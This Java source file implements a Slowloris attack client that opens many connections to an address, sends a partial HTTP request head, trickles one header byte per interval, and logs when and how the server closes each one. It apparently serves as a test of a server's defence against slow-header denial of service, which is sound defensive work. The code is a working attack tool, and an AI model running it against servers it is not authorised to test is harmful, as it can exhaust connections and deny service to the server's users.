package dev.jgu.dist;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The slowloris attack: many connections that each begin a request head and then send
 * one more header byte every {@code interval}, never finishing it, so that a server which
 * bounds only each read (not the whole head) keeps them forever. The attacker never closes
 * a connection itself before its deadline: {@link #run} returns when the server has ended
 * every one, or at the deadline, and says for each when and how it ended.
 */
final class Slowloris {

    /** One attack connection: when it connected and ended (nanoTime), what it sent and received. */
    static final class Conn {
        final SocketChannel channel;
        final long connectedAt;
        SelectionKey key;
        long endedAt;
        RawExchange.End end;
        int sent;
        final StringBuilder received = new StringBuilder();

        Conn(SocketChannel channel, long connectedAt) {
            this.channel = channel;
            this.connectedAt = connectedAt;
        }

        long lifeMillis() {
            return (endedAt - connectedAt) / 1_000_000;
        }

        RawExchange asExchange() {
            return new RawExchange(received.toString(), end, lifeMillis());
        }
    }

    /** Header lines that stay valid byte by byte: the head grows by one field every few bytes, never ending. */
    private static final String TRICKLE = "X-a: b\r\n";
    private static final String PREFIX = "GET / HTTP/1.1\r\nHost: t\r\n";

    private Slowloris() {
    }

    /**
     * @param connections how many attack connections to open
     * @param intervalMillis between two bytes on each connection
     * @param deadlineMillis from the start, when the attacker gives up and closes what the server left open
     */
    static List<Conn> run(String address, int connections, long intervalMillis, long deadlineMillis) throws IOException {
        long start = System.nanoTime();
        long deadline = start + deadlineMillis * 1_000_000;
        List<Conn> all = new ArrayList<>();
        try (Selector selector = Selector.open()) {
            try {
                for (int i = 0; i < connections; i++) {
                    SocketChannel ch = SocketChannel.open(RawExchange.socketAddress(address));
                    Conn c = new Conn(ch, System.nanoTime());
                    all.add(c);
                    ch.write(ByteBuffer.wrap(PREFIX.getBytes(StandardCharsets.ISO_8859_1)));
                    ch.configureBlocking(false);
                    c.key = ch.register(selector, SelectionKey.OP_READ, c);
                }
                long nextByte = System.nanoTime() + intervalMillis * 1_000_000;
                int open = connections;
                ByteBuffer buf = ByteBuffer.allocate(4096);
                while (open > 0 && System.nanoTime() < deadline) {
                    long wait = Math.max(1, (Math.min(nextByte, deadline) - System.nanoTime()) / 1_000_000);
                    selector.select(wait);
                    for (SelectionKey key : selector.selectedKeys()) {
                        Conn c = (Conn) key.attachment();
                        open -= read(c, buf) ? 1 : 0;
                    }
                    selector.selectedKeys().clear();
                    if (System.nanoTime() >= nextByte) {
                        for (Conn c : all) {
                            if (c.end == null) {
                                open -= trickle(c) ? 1 : 0;
                            }
                        }
                        nextByte += intervalMillis * 1_000_000;
                    }
                }
            } finally {
                for (Conn c : all) {
                    if (c.end == null) {
                        c.end = RawExchange.End.CLIENT_DEADLINE;
                        c.endedAt = System.nanoTime();
                    }
                    c.channel.close();
                }
            }
        }
        return all;
    }

    /** @return whether the server ended the connection */
    private static boolean read(Conn c, ByteBuffer buf) {
        if (c.end != null) {
            return false;
        }
        int n;
        try {
            n = c.channel.read(buf.clear());
        } catch (IOException reset) {
            return ended(c, RawExchange.End.RESET);
        }
        if (n < 0) {
            return ended(c, RawExchange.End.EOF);
        }
        c.received.append(new String(buf.array(), 0, n, StandardCharsets.ISO_8859_1));
        return false;
    }

    /** Sends the next byte; @return whether the server had ended the connection (a reset on write) */
    private static boolean trickle(Conn c) {
        byte b = (byte) TRICKLE.charAt(c.sent % TRICKLE.length());
        try {
            c.channel.write(ByteBuffer.wrap(new byte[] {b}));
            c.sent++;
            return false;
        } catch (IOException reset) {
            return ended(c, RawExchange.End.RESET);
        }
    }

    private static boolean ended(Conn c, RawExchange.End how) {
        c.end = how;
        c.endedAt = System.nanoTime();
        // an ended connection stays readable (EOF) on every select: stop watching it
        c.key.cancel();
        return true;
    }
}
